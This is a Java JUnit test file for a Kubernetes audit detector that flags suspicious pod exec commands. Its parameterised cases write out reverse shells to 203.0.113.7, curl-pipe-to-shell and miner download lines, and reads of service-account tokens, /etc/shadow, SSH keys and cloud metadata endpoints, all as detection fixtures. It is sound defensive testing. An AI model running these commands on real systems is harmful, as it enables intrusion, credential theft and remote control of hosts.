package io.tenantwatch.detectors.interactive;

import static io.tenantwatch.detectors.testing.Identities.AKS_SERVICE;
import static io.tenantwatch.detectors.testing.Identities.ALICE;
import static io.tenantwatch.detectors.testing.Identities.ALPHA_DEPLOYER;
import static io.tenantwatch.detectors.testing.Identities.DAVE;
import static io.tenantwatch.detectors.testing.Identities.MASTERCLIENT;
import static io.tenantwatch.detectors.testing.Identities.PLATFORM_GITOPS;
import static org.assertj.core.api.Assertions.assertThat;

import io.tenantwatch.detectors.interactive.ExecSuspiciousCommand.Indicator;
import io.tenantwatch.detectors.testing.AuditEvents;
import io.tenantwatch.detectors.testing.Detect;
import io.tenantwatch.detectors.testing.InteractiveEvents;
import io.tenantwatch.schemas.Alert;
import io.tenantwatch.schemas.NormalizedEvent;
import io.tenantwatch.schemas.Severity;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class ExecSuspiciousCommandTest {

    private static final String POD = "web-7d4b9c8f5-x2x9q";
    private static final String TOKEN_PATH = "/var/run/secrets/kubernetes.io/serviceaccount/token";
    private static final String JWT = "eyJhbGciOiJSUzI1NiIsImtpZCI6IjEyMyJ9.eyJzdWIiOiJzeXN0ZW0ifQ.c2lnbmF0dXJl";
    private final ExecSuspiciousCommand detector = new ExecSuspiciousCommand();

    private static NormalizedEvent daveExecs(String... command) {
        return AuditEvents.by(DAVE).exec("alpha-prod", POD, command).build();
    }

    @Test
    void theStratusServiceAccountTokenTheftIsRaised() {
        Alert alert = Detect.single(
                detector,
                InteractiveEvents.stratusStealServiceAccountToken(DAVE).build());

        assertThat(alert.detector()).isEqualTo("exec-suspicious-command");
        assertThat(alert.severity()).isEqualTo(Severity.HIGH);
        assertThat(alert.tenant()).isNull();
        assertThat(alert.summary())
                .isEqualTo("dave@fabrikam.com (unattributed) exec'd into pods/stratus-red-team-sample-pod in "
                        + "namespace stratus-red-team-ubdaslyp (no tenant) with a suspicious command (service-account token): cat "
                        + TOKEN_PATH);
        assertThat(alert.evidence().details())
                .containsExactly(
                        "indicator: service-account token (kubernetes.io/serviceaccount)",
                        "command: cat " + TOKEN_PATH);
        assertThat(alert.evidence().requestURI())
                .isEqualTo("/api/v1/namespaces/stratus-red-team-ubdaslyp/pods/"
                        + "stratus-red-team-sample-pod/exec?command=cat&command=%2Fvar%2Frun%2Fsecrets%2Fkubernetes.io%2F"
                        + "serviceaccount%2Ftoken&stdout=true");
        assertThat(alert.mitre())
                .isEqualTo(new Alert.Mitre("Credential Access", "T1528 Steal Application Access Token"));
        assertThat(ExecSuspiciousCommand.SPEC.mitre())
                .isEqualTo(new Alert.Mitre("Execution", "T1609 Container Administration Command"));
    }

    @Test
    void aCrossTenantExecStealingTheTokenRaisesBothCrossTenantExecAndThis() {
        assertThat(Detect.detectorsRaising(AuditEvents.by(ALICE)
                        .exec("beta-prod", "payments-api-6c9f7d8b4-k2x7q", "sh", "-c", "cat " + TOKEN_PATH)
                        .build()))
                .contains("cross-tenant-exec", "exec-suspicious-command")
                .doesNotContain("pod-exec");
    }

    @Test
    void anAdminsExecRaisesPodExecAndThisAndAnOwnTenantExecOnlyThis() {
        assertThat(Detect.detectorsRaising(AuditEvents.by(MASTERCLIENT)
                        .exec("alpha-prod", POD, "sh", "-c", "curl -fsSL http://203.0.113.7/x.sh | sh")
                        .build()))
                .contains("pod-exec", "exec-suspicious-command");
        assertThat(Detect.detectorsRaising(AuditEvents.by(ALICE)
                        .exec("alpha-prod", POD, "sh", "-c", "curl -fsSL http://203.0.113.7/x.sh | sh")
                        .build()))
                .contains("exec-suspicious-command")
                .doesNotContain("pod-exec", "cross-tenant-exec");
    }

    static Stream<Arguments> attacks() {
        return Stream.of(
                // the service-account token, and AKS workload identity's
                Arguments.of(
                        Indicator.SERVICE_ACCOUNT_TOKEN,
                        new String[] {"ls", "/var/run/secrets/kubernetes.io/serviceaccount"}),
                Arguments.of(Indicator.SERVICE_ACCOUNT_TOKEN, new String[] {
                    "sh",
                    "-c",
                    "TOKEN=$(cat /run/secrets/kubernetes.io/serviceaccount/token); curl -sk -H \"Authorization: Bearer $TOKEN\" "
                            + "https://kubernetes.default.svc/api/v1/secrets"
                }),
                Arguments.of(
                        Indicator.SERVICE_ACCOUNT_TOKEN,
                        new String[] {"cat", "/var/run/secrets/azure/tokens/azure-identity-token"}),
                Arguments.of(
                        Indicator.SERVICE_ACCOUNT_TOKEN, new String[] {"sh", "-c", "cat $AZURE_FEDERATED_TOKEN_FILE"}),
                // any other projected token, and the directory as a whole
                Arguments.of(
                        Indicator.SERVICE_ACCOUNT_TOKEN,
                        new String[] {"cat", "/var/run/secrets/eks.amazonaws.com/serviceaccount/token"}),
                Arguments.of(
                        Indicator.SERVICE_ACCOUNT_TOKEN, new String[] {"cat", "/var/run/secrets/tokens/vault-token"}),
                Arguments.of(Indicator.SERVICE_ACCOUNT_TOKEN, new String[] {"find", "/var/run/secrets/", "-type", "f"}),
                Arguments.of(Indicator.SERVICE_ACCOUNT_TOKEN, new String[] {"sh", "-c", "ls -laR /run/secrets"}),
                // credential files: keys, kubeconfigs, password hashes, other processes' environment
                Arguments.of(Indicator.CREDENTIAL_FILE, new String[] {"cat", "/root/.ssh/id_rsa"}),
                Arguments.of(Indicator.CREDENTIAL_FILE, new String[] {"sh", "-c", "cat ~/.ssh/authorized_keys"}),
                Arguments.of(Indicator.CREDENTIAL_FILE, new String[] {"sh", "-c", "cat $HOME/.kube/config"}),
                Arguments.of(Indicator.CREDENTIAL_FILE, new String[] {"ls", "-la", "/home/app/.ssh"}),
                Arguments.of(Indicator.PASSWORD_HASHES, new String[] {"cat", "/etc/shadow"}),
                Arguments.of(Indicator.PASSWORD_HASHES, new String[] {"sh", "-c", "grep root /etc/shadow"}),
                Arguments.of(Indicator.PROCESS_ENVIRONMENT, new String[] {"cat", "/proc/1/environ"}),
                Arguments.of(
                        Indicator.PROCESS_ENVIRONMENT,
                        new String[] {"sh", "-c", "cat /proc/*/environ | tr '\\0' '\\n' | grep -i pass"}),
                Arguments.of(Indicator.PROCESS_ENVIRONMENT, new String[] {"sh", "-c", "strings /proc/self/environ"}),
                // the instance metadata service and the Azure wireserver
                Arguments.of(Indicator.INSTANCE_METADATA, new String[] {
                    "curl",
                    "-s",
                    "-H",
                    "Metadata:true",
                    "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://management.azure.com/"
                }),
                Arguments.of(
                        Indicator.INSTANCE_METADATA,
                        new String[] {"wget", "-qO-", "http://168.63.129.16/machine?comp=goalstate"}),
                Arguments.of(Indicator.INSTANCE_METADATA, new String[] {"curl", "http://2852039166/metadata/instance"}),
                Arguments.of(Indicator.INSTANCE_METADATA, new String[] {"curl", "http://0xA9FEA9FE/latest/meta-data/"}),
                // reverse shells
                Arguments.of(
                        Indicator.REVERSE_SHELL,
                        new String[] {"bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"}),
                Arguments.of(Indicator.REVERSE_SHELL, new String[] {"sh", "-i"}),
                Arguments.of(Indicator.REVERSE_SHELL, new String[] {"/bin/bash", "-i"}),
                Arguments.of(Indicator.REVERSE_SHELL, new String[] {"nc", "203.0.113.7", "4444", "-e", "/bin/sh"}),
                Arguments.of(Indicator.REVERSE_SHELL, new String[] {"ncat", "-e", "/bin/bash", "203.0.113.7", "443"}),
                Arguments.of(Indicator.REVERSE_SHELL, new String[] {"ncat", "--sh-exec", "bash", "203.0.113.7", "443"}),
                Arguments.of(Indicator.REVERSE_SHELL, new String[] {
                    "sh", "-c", "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f"
                }),
                Arguments.of(Indicator.REVERSE_SHELL, new String[] {
                    "socat", "exec:'bash -li',pty,stderr,setsid,sigint,sane", "tcp:203.0.113.7:4444"
                }),
                Arguments.of(Indicator.REVERSE_SHELL, new String[] {
                    "python3",
                    "-c",
                    "import socket,subprocess,os;"
                            + "s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect((\"203.0.113.7\",4444));"
                            + "os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\"])"
                }),
                // download and run
                Arguments.of(
                        Indicator.DOWNLOAD_AND_RUN,
                        new String[] {"sh", "-c", "curl -fsSL http://203.0.113.7/x.sh | sh"}),
                Arguments.of(
                        Indicator.DOWNLOAD_AND_RUN,
                        new String[] {"bash", "-c", "wget -q -O - http://203.0.113.7/k.sh | bash"}),
                Arguments.of(
                        Indicator.DOWNLOAD_AND_RUN,
                        new String[] {"sh", "-c", "curl -s http://203.0.113.7/x|sudo /bin/bash -s"}),
                Arguments.of(
                        Indicator.DOWNLOAD_AND_RUN,
                        new String[] {"sh", "-c", "curl -s http://203.0.113.7/i.py | python3"}),
                Arguments.of(
                        Indicator.DOWNLOAD_AND_RUN, new String[] {"sh", "-c", "$(curl -fsSL http://203.0.113.7/x)"}),
                Arguments.of(
                        Indicator.DOWNLOAD_AND_RUN,
                        new String[] {"bash", "-c", "bash <(curl -s http://203.0.113.7/x.sh)"}),
                Arguments.of(Indicator.DOWNLOAD_AND_RUN, new String[] {
                    "sh", "-c", "wget http://203.0.113.7/xmrig -O /tmp/.x && chmod +x /tmp/.x && /tmp/.x"
                }),
                Arguments.of(Indicator.DOWNLOAD_AND_RUN, new String[] {
                    "sh", "-c", "curl -o /tmp/kd http://203.0.113.7/kdevtmpfsi; chmod 755 /tmp/kd; /tmp/kd"
                }),
                // archive to stdout: kubectl cp out of the pod, and its hand-written forms
                Arguments.of(Indicator.ARCHIVE_TO_STDOUT, new String[] {"tar", "cf", "-", "/var/lib/postgresql/data"}),
                Arguments.of(Indicator.ARCHIVE_TO_STDOUT, new String[] {"tar", "-czf", "-", "/app/config"}),
                Arguments.of(Indicator.ARCHIVE_TO_STDOUT, new String[] {"tar", "czv", "/srv/uploads"}),
                Arguments.of(Indicator.ARCHIVE_TO_STDOUT, new String[] {"tar", "-c", "-f", "-", "/data"}),
                Arguments.of(Indicator.ARCHIVE_TO_STDOUT, new String[] {"sh", "-c", "tar cf - /data | base64 -w0"}),
                // decode and run
                Arguments.of(
                        Indicator.ENCODED_COMMAND,
                        new String[] {"sh", "-c", "echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh"}));
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void whatIntrudersRunIsRaised(Indicator expected, String[] command) {
        Alert alert = Detect.single(detector, daveExecs(command));

        assertThat(ExecSuspiciousCommand.indicators(String.join(" ", command)))
                .first()
                .isEqualTo(expected);
        assertThat(alert.summary()).contains(" with a suspicious command (" + expected.label());
        assertThat(alert.evidence().details()).first().asString().startsWith("indicator: " + expected.label() + " (");
    }

    static Stream<Arguments> routineCommands() {
        return Stream.of(
                Arguments.of((Object) new String[] {"ls", "/tmp"}),
                Arguments.of((Object) new String[] {"sh"}),
                Arguments.of((Object) new String[] {"bash"}),
                Arguments.of((Object) new String[] {"zsh"}),
                Arguments.of((Object) new String[] {"/bin/sh", "-c", "ps aux"}),
                Arguments.of((Object) new String[] {"sh", "-c", "ls -i /tmp"}),
                Arguments.of((Object) new String[] {"env"}),
                Arguments.of((Object) new String[] {"cat", "/etc/nginx/nginx.conf"}),
                Arguments.of((Object) new String[] {"cat", "/var/run/secrets/app/config.yaml"}),
                Arguments.of((Object) new String[] {"ssh", "-i", "/keys/id_ed25519", "git@github.com"}),
                Arguments.of((Object) new String[] {"curl", "-s", "http://localhost:8080/healthz"}),
                Arguments.of((Object)
                        new String[] {"sh", "-c", "curl -s http://localhost:8080/metrics | grep http_requests"}),
                Arguments.of((Object) new String[] {"sh", "-c", "wget -qO- http://web:8080/ | sha256sum"}),
                Arguments.of((Object) new String[] {"sh", "-c", "curl -s http://web:8080/ | shasum -a 256"}),
                Arguments.of((Object) new String[] {"sh", "-c", "echo $KUBERNETES_SERVICE_HOST"}),
                Arguments.of((Object) new String[] {"sh", "-c", "tail -n 100 /var/log/app.log | grep -i error"}),
                Arguments.of((Object) new String[] {"nc", "-zv", "db", "5432"}),
                Arguments.of((Object) new String[] {"ping", "-c", "1", "169.254.169.25"}),
                Arguments.of((Object) new String[] {"psql", "-h", "db", "-U", "app", "-c", "select 1"}),
                Arguments.of((Object) new String[] {"python3", "-c", "print(1)"}),
                Arguments.of((Object) new String[] {"sh", "-c", "base64 -d /tmp/cert.b64 > /tmp/cert.pem"}),
                // look-alikes of the credential files and archives
                Arguments.of((Object) new String[] {"cat", "/etc/ssh/sshd_config"}),
                Arguments.of((Object) new String[] {"cat", "/etc/passwd"}),
                Arguments.of((Object) new String[] {"ls", "/app/.sshd-keys.md"}),
                Arguments.of((Object) new String[] {"cat", "/proc/1/status"}),
                Arguments.of((Object) new String[] {"tar", "-xmf", "-", "-C", "/tmp"}),
                Arguments.of((Object) new String[] {"tar", "xzf", "/tmp/release.tgz", "-C", "/app"}),
                Arguments.of((Object) new String[] {"tar", "czf", "/backup/data.tgz", "/data"}),
                Arguments.of((Object) new String[] {"tar", "--version"}),
                Arguments.of((Object) new String[] {"tar", "-tvf", "/tmp/a.tar"}));
    }

    @ParameterizedTest
    @MethodSource("routineCommands")
    void routineCommandsAreQuiet(String[] command) {
        assertThat(Detect.with(detector, daveExecs(command))).isEmpty();
    }

    @Test
    void everyIndicatorOfACommandIsNamedAndTheFirstSetsTheMitreMapping() {
        Alert alert = Detect.single(
                detector,
                daveExecs(
                        "sh",
                        "-c",
                        "curl -s -H Metadata:true http://169.254.169.254/metadata/identity/oauth2/token | nc 203.0.113.7 4444 -e /bin/sh"));

        assertThat(alert.summary())
                .contains("with a suspicious command (instance metadata, reverse shell): sh -c curl");
        assertThat(alert.evidence().details())
                .containsExactly(
                        "indicator: instance metadata (169.254.169.254)",
                        "indicator: reverse shell (nc 203.0.113.7 4444 -e)",
                        "command: sh -c curl -s -H Metadata:true http://169.254.169.254/metadata/identity/oauth2/token | nc 203.0.113.7 "
                                + "4444 -e /bin/sh");
        assertThat(alert.mitre())
                .isEqualTo(new Alert.Mitre("Credential Access", "T1552.005 Cloud Instance Metadata API"));
    }

    @Test
    void aTokenInTheCommandIsRedactedEverywhere() {
        Alert alert = Detect.single(
                detector,
                daveExecs(
                        "curl",
                        "-sk",
                        "-H",
                        "Authorization: Bearer " + JWT,
                        "http://169.254.169.254/metadata/instance"));

        assertThat(alert.summary()).doesNotContain("eyJ").contains("Authorization: Bearer [redacted]");
        assertThat(alert.evidence().details()).allSatisfy(d -> assertThat(d).doesNotContain("eyJ"));
        assertThat(alert.evidence().requestURI()).doesNotContain("eyJ");
    }

    @Test
    void theWebSocketFormAndATenantWorkloadIdentityAreRaised() {
        assertThat(Detect.with(
                        detector,
                        AuditEvents.by(DAVE)
                                .exec("alpha-prod", POD, "cat", TOKEN_PATH)
                                .verb("get")
                                .build()))
                .hasSize(1);
        assertThat(Detect.with(
                        detector,
                        AuditEvents.by(ALPHA_DEPLOYER)
                                .exec("alpha-prod", POD, "cat", TOKEN_PATH)
                                .build()))
                .hasSize(1);
    }

    @Test
    void platformIdentitiesAreQuiet() {
        assertThat(Detect.with(
                        detector,
                        AuditEvents.by(AKS_SERVICE)
                                .exec("kube-system", "konnectivity-agent-7f8c9", "cat", TOKEN_PATH)
                                .build()))
                .isEmpty();
        assertThat(Detect.with(
                        detector,
                        AuditEvents.by(PLATFORM_GITOPS)
                                .exec("alpha-prod", POD, "sh", "-i")
                                .build()))
                .isEmpty();
    }

    @Test
    void refusedExecsAndRequestsWithoutACommandAreQuiet() {
        assertThat(Detect.with(
                        detector,
                        AuditEvents.by(DAVE)
                                .exec("alpha-prod", POD, "cat", TOKEN_PATH)
                                .forbidden()
                                .build()))
                .isEmpty();
        assertThat(Detect.with(
                        detector, AuditEvents.by(DAVE).exec("alpha-prod", POD).build()))
                .isEmpty();
        assertThat(Detect.with(
                        detector, AuditEvents.by(DAVE).attach("alpha-prod", POD).build()))
                .isEmpty();
        assertThat(Detect.with(
                        detector,
                        AuditEvents.by(DAVE)
                                .portForward("alpha-prod", POD)
                                .query("command=cat+" + TOKEN_PATH.replace("/", "%2F"))
                                .build()))
                .isEmpty();
    }
}
